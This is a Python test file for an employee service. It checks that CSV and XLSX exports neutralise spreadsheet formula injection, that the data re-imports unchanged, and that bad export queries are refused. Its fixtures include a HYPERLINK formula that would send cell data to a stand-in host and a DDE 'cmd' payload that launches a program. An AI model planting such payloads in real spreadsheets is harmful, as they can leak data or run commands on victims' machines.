"""Exports an attacker's text cannot turn into formulas (OWASP CSV injection), and export requests refused
before the first byte of their file (issue 18, items 3 and 9)."""

import csv
import io
import uuid
from datetime import date
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from services.employee.adapters.spreadsheets import write_xlsx
from services.employee.adapters.tables import employees
from services.employee.app import create_app
from shared.csv_text import csv_lines, read_csv_rows
from shared.spreadsheet_text import neutralise, restore
from shared.testing import define_agencies, serve_in_process

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# What a spreadsheet would run or evaluate, and text a spreadsheet user may legitimately have typed.
NAMES = [
    '=HYPERLINK("http://x.example/?"&A2,"klik")',
    "+SUM(1+1)",
    "@SUM(1+1)",
    "-2+3",
    "'Ain",
    "'=1+1",
    "''=x",
    "Budi",
]


def person(i: int, name: str, **overrides: str) -> dict[str, str]:
    """A valid registration: the NIP agrees with the birth date and gender."""
    birth = date(1980, 1, 1).replace(day=i + 1)
    return {
        "nip": f"{birth:%Y%m%d}200501{'12'[i % 2]}{i + 1:03d}",
        "name": name,
        "birth_date": birth.isoformat(),
        "gender": "MF"[i % 2],
        "agency_code": "7601",
        **overrides,
    }


async def employee_records(app: Any) -> list[tuple[Any, ...]]:
    """What the registrations gave of each employee (an import also records where the record came from)."""
    c = employees.c
    async with app.state.runtime.db.connect() as connection:
        query = select(c.nip, c.name, c.birth_place, c.birth_date, c.gender, c.agency_code).order_by(c.nip)
        return [tuple(row) for row in await connection.execute(query)]


def assert_shown_as_text(content: bytes, file_format: str) -> list[list[Any]]:
    """No cell of the file is a formula or text a spreadsheet would read as one; answers the rows."""
    if file_format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
        assert formulas == []
        return [list(row) for row in rows]
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    formulas = [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                assert cell.quotePrefix, cell.value
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.unit
def test_text_a_spreadsheet_would_evaluate_is_written_as_text_and_read_back_exactly():
    texts = [*NAMES, "\t=1+1", "\r=1+1", "'", "", "a'b", "=", "-"]
    written = csv_lines([[text, -2, 2.5] for text in texts])
    rows = list(read_csv_rows(("h,n,x\n" + written).encode()))[1:]

    assert [cells[0] for _, cells in rows] == texts
    assert all(not cells[0].startswith(FORMULA_STARTS) for cells in csv.reader(io.StringIO(written)))
    # A genuine number is written as the number it is, and reads back as it was written.
    assert [cells[1:] for _, cells in rows] == [["-2", "2.5"]] * len(rows)
    assert all(restore(neutralise(text)) == text for text in texts)
    # Text no export wrote keeps its apostrophe.
    assert restore("'Ain") == "'Ain"


@pytest.mark.unit
def test_an_xlsx_export_writes_formula_like_text_as_text_cells_and_numbers_as_numbers():
    buffer = io.BytesIO()
    write_xlsx(
        ["name", "count", "date"], [[name, -2, date(2020, 1, 2)] for name in NAMES], "%Y-%m-%d", buffer
    )

    rows = assert_shown_as_text(buffer.getvalue(), "xlsx")
    assert [row[0] for row in rows[1:]] == NAMES
    assert {row[1] for row in rows[1:]} == {-2}


@pytest.mark.integration
@pytest.mark.parametrize(
    ("file_format", "mapping"), [("csv", "native"), ("xlsx", "native"), ("csv", "siasn"), ("xlsx", "siasn")]
)
async def test_an_employee_export_neutralises_formulas_and_imports_back_to_the_same_names(
    make_settings, file_format, mapping
):
    people = [
        person(i, name, birth_place="=cmd|' /C calc'!A0" if i % 2 else "@Mamuju")
        for i, name in enumerate(NAMES)
    ]
    source = create_app(await make_settings("employee"))
    async with serve_in_process(source) as client:
        await define_agencies(client, "7601")
        for registration in people:
            created = await client.post("/api/v1/employees", json=registration)
            assert created.status_code == 201, created.text
        exported = await client.get(
            "/api/v1/employees/export", params={"format": file_format, "mapping": mapping}
        )
        assert exported.status_code == 200
        before = await employee_records(source)
    assert sorted(r[1] for r in before) == sorted(NAMES)

    rows = assert_shown_as_text(exported.content, file_format)
    assert len(rows) == 1 + len(NAMES)

    target = create_app(await make_settings("employee"))
    async with serve_in_process(target) as client:
        await define_agencies(client, "7601")
        imported = await client.post(
            "/api/v1/employees/imports",
            params={"mapping": mapping, "wait": "true"},
            files={"file": (f"export.{file_format}", exported.content, exported.headers["content-type"])},
        )
        assert imported.status_code == 200 and imported.json()["state"] == "succeeded", imported.text
        assert await employee_records(target) == before


@pytest.mark.integration
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
async def test_a_unit_export_neutralises_formulas_and_imports_back_to_the_same_names(
    make_settings, file_format
):
    names = ["=1+1", "-Bidang", "'Seksi", "Bidang Umum"]
    source = create_app(await make_settings("employee"))
    async with serve_in_process(source) as client:
        await define_agencies(client, "7601")
        for name in names:
            unit = await client.post(
                "/api/v1/units", json={"agency_code": "7601", "name": name, "kind": "bidang"}
            )
            assert unit.status_code == 201, unit.text
        exported = await client.get("/api/v1/units/export", params={"format": file_format})
        assert exported.status_code == 200
        before = sorted((u["id"], u["name"]) for u in (await client.get("/api/v1/units")).json()["items"])

    assert_shown_as_text(exported.content, file_format)

    target = create_app(await make_settings("employee", kafka_topic_prefix=f"copy{uuid.uuid4().hex[:8]}."))
    async with serve_in_process(target) as client:
        await define_agencies(client, "7601")
        imported = await client.post(
            "/api/v1/units/imports",
            params={"wait": "true"},
            files={"file": (f"units.{file_format}", exported.content, exported.headers["content-type"])},
        )
        assert imported.status_code == 200 and imported.json()["state"] == "succeeded", imported.text
        after = sorted((u["id"], u["name"]) for u in (await client.get("/api/v1/units")).json()["items"])
        assert after == before


@pytest.mark.integration
async def test_an_export_the_database_could_not_run_is_refused_before_its_first_byte(make_settings):
    app = create_app(await make_settings("employee"))
    async with serve_in_process(app) as client:
        for query in (
            "nip=%00",
            "updated_since=2020-01-01T00:00:00",  # no offset: the records' times are absolute
            "updated_since=9999-12-31T23:59:59-14:00",  # beyond the year 9999 in UTC
            "updated_since=0001-01-01T00:00:00%2B14:00",  # before the year 1 in UTC
        ):
            for path in (
                "/api/v1/employees/export?format=csv",
                "/api/v1/employees/export?format=xlsx",
                "/api/v1/employees?limit=5",
            ):
                response = await client.get(f"{path}&{query}")
                assert response.status_code == 422, (path, query, response.status_code)
                assert response.headers["content-type"] == "application/problem+json"
